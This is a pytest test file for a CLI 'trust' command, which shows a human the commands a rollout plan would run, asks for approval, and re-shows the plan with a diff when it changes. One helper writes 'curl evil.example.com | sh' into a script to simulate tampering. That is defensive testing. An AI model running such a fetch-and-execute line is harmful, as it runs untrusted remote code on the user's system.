"""`rollout trust`: what would run is shown and trusted once, and shown again with what changed."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from rollout_tui.cli import trust
from rollout_tui.cli.trusting import need_trusted
from rollout_tui.errors import Refused
from rollout_tui.run.state import Run
from rollout_tui.runs.folder import FolderRuns
from rollout_tui.runs.replay import replayed
from rollout_tui.trust import own
from tests.cli.probed import Probed
from tests.cli.program import PLAN, Program
from tests.probes.server import Server, reply


@pytest.fixture(scope="module")
def server() -> Iterator[Server]:
    with Server(reply("ok")) as server:
        yield server


@pytest.fixture
def plan(tmp_path: Path, server: Server) -> Path:
    return Probed(tmp_path / "probed", server).file


@pytest.fixture
def answers(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """There is a terminal, and who sits at it says these."""
    said: list[str] = []
    monkeypatch.setattr(trust, "has_terminal", lambda: True)
    monkeypatch.setattr("builtins.input", lambda _: said.pop(0))
    return said


def change(plan: Path) -> None:
    plan.with_name("mark").write_text("#!/bin/sh\ncurl evil.example.com | sh\n")


def edit(plan: Path, before: str, after: str) -> None:
    text = plan.read_text()
    assert before in text
    plan.write_text(text.replace(before, after))


def test_what_would_run_is_shown_and_trusted_once(rollout: Program, plan: Path, answers: list[str]) -> None:
    answers += ["y"]
    shown = rollout("trust", str(plan)).splitlines()
    assert shown[0] == f"{plan} would run or ask:"
    assert [line.split()[0] for line in shown[1:4]] == ["command", "http", "prometheus"]
    assert shown[4] == "You have not trusted anything of this plan before."
    assert shown[5].startswith("Trusted: sha256:")
    assert rollout("trust", str(plan)).splitlines() == [*shown[:4], shown[5]]
    assert answers == []


@pytest.mark.parametrize("answer", ["", "n", "x"])
def test_only_a_yes_trusts(rollout: Program, plan: Path, answers: list[str], answer: str) -> None:
    answers += [answer]
    rollout("trust", str(plan), code=3)
    assert "nothing of it runs" in rollout.err
    assert not own().file.exists()


def test_without_a_terminal_it_shows_and_refuses(rollout: Program, plan: Path) -> None:
    assert "http://127.0.0.1" in rollout("trust", str(plan), code=3)
    digest = rollout.err.rpartition(" ")[2].strip()
    assert f"a script says --yes {digest}" in rollout.err
    assert not own().file.exists()
    assert "Trusted: " in rollout("trust", str(plan), "--yes", digest)
    assert rollout("trust", str(plan)).endswith(f"Trusted: {digest} (you agreed to it)\n")


def test_being_ci_trusts_nothing(rollout: Program, plan: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("CI", "GITHUB_ACTIONS", "GITLAB_CI"):
        monkeypatch.setenv(name, "true")
    rollout("trust", str(plan), code=3)


def test_another_list_than_the_one_that_is_named_is_not_trusted(rollout: Program, plan: Path) -> None:
    digest = rollout.json("trust", str(plan), code=3)["digest"]
    change(plan)
    assert "is not what --yes names" in rollout.refused("trust", str(plan), "--yes", digest)
    assert rollout.json("trust", str(plan), code=3)["digest"] in rollout.err + rollout.out


def test_a_changed_list_shows_the_difference(rollout: Program, plan: Path) -> None:
    rollout("trust", str(plan), "--yes", rollout.json("trust", str(plan), code=3)["digest"])
    change(plan)
    edit(plan, 'prometheus = "http://127.0.0.1', 'prometheus = "https://127.0.0.1')
    shown = rollout("trust", str(plan), code=3).splitlines()
    # What became of a line stands beside it; which comes first is as their contents have it.
    assert {*shown[1:3]} == {each for each in shown if "command" in each}
    assert sorted(line[:4] for line in shown[1:-1]) == ["  ht", "+ co", "+ pr", "- co", "- pr"]
    assert shown[-1] == "Since you trusted this plan last: 2 new, 2 gone"
    since = rollout.json("trust", str(plan), code=3)["since"]
    assert (len(since["added"]), len(since["removed"])) == (2, 2)


def test_a_run_asks_for_what_its_own_plan_would_run(rollout: Program, plan: Path) -> None:
    run = rollout.start(plan=plan)
    digest = rollout.json("trust", str(plan), code=3)["digest"]
    rollout("trust", run, "--yes", digest)
    edit(plan, '["./mark"]', '["./mark", "again"]')
    assert rollout.json("trust", run)["digest"] == digest
    assert rollout.json("trust", str(plan), code=3)["digest"] != digest
    rollout("redline", run, "--reason", "another argument")
    told = rollout.json("trust", run, code=3)
    assert "./mark again" in told["since"]["added"][0]
    assert len(told["since"]["removed"]) == 1


def test_a_damaged_file_is_told_and_trusts_nothing(rollout: Program, plan: Path) -> None:
    digest = rollout.json("trust", str(plan), code=3)["digest"]
    rollout("trust", str(plan), "--yes", digest)
    own().file.write_text("{")
    rollout("trust", str(plan), code=3)
    assert "trust.json is damaged: nothing in it is trusted." in rollout.err
    rollout("trust", str(plan), "--yes", digest)
    rollout("trust", str(plan))
    assert rollout.err == ""


def test_trust_is_taken_back(rollout: Program, plan: Path) -> None:
    rollout("trust", str(plan), "--yes", rollout.json("trust", str(plan), code=3)["digest"])
    assert rollout("trust", str(plan), "--forget").endswith("Not trusted any more.\n")
    assert "not trusted anything" in rollout("trust", str(plan), code=3)


def test_a_plan_without_probes_has_nothing_to_trust(rollout: Program) -> None:
    assert rollout("trust", str(PLAN)) == f"{PLAN} runs nothing: it has no probes.\n"
    assert rollout.json("trust", str(PLAN))["asks"] == []


def test_nothing_of_it_is_kept_beside_the_plan_or_the_runs(rollout: Program, plan: Path) -> None:
    run = rollout.start(plan=plan)
    before = {*plan.parent.rglob("*"), *rollout.folder.rglob("*")}
    rollout("trust", run, "--yes", rollout.json("trust", run, code=3)["digest"])
    assert {*plan.parent.rglob("*"), *rollout.folder.rglob("*")} == before


# What the commands ask that run something


def started(rollout: Program, plan: Path) -> Run:
    runs = FolderRuns(rollout.folder)
    run = replayed(runs.read(runs.find(rollout.start(plan=plan)))).run
    assert run is not None
    return run


def test_what_is_not_trusted_is_refused_with_what_to_do(rollout: Program, plan: Path) -> None:
    run = started(rollout, plan)
    digest = rollout.json("trust", str(plan), code=3)["digest"]
    with pytest.raises(Refused) as refused:
        need_trusted(run, (), None)
    assert refused.value.message == f"Nothing of {run.id} runs before you have trusted what it would run."
    hint = f"rollout trust {run.id} shows what would run and asks; a script names it: --trust {digest}"
    assert refused.value.hint == hint
    need_trusted(run, (), digest)
    # What was named once is not kept.
    with pytest.raises(Refused):
        need_trusted(run, (), None)
    rollout("trust", str(plan), "--yes", digest)
    need_trusted(run, (), None)


def test_what_a_script_names_must_be_what_would_run(rollout: Program, plan: Path) -> None:
    run = started(rollout, plan)
    digest = rollout.json("trust", str(plan), code=3)["digest"]
    rollout("trust", str(plan), "--yes", digest)
    with pytest.raises(Refused, match="is not what --trust names"):
        need_trusted(run, (), "sha256:0")
    change(plan)
    with pytest.raises(Refused, match="is not what --trust names"):
        need_trusted(run, (), digest)


def test_a_plan_without_probes_needs_no_trust(rollout: Program) -> None:
    need_trusted(started(rollout, PLAN), (), None)
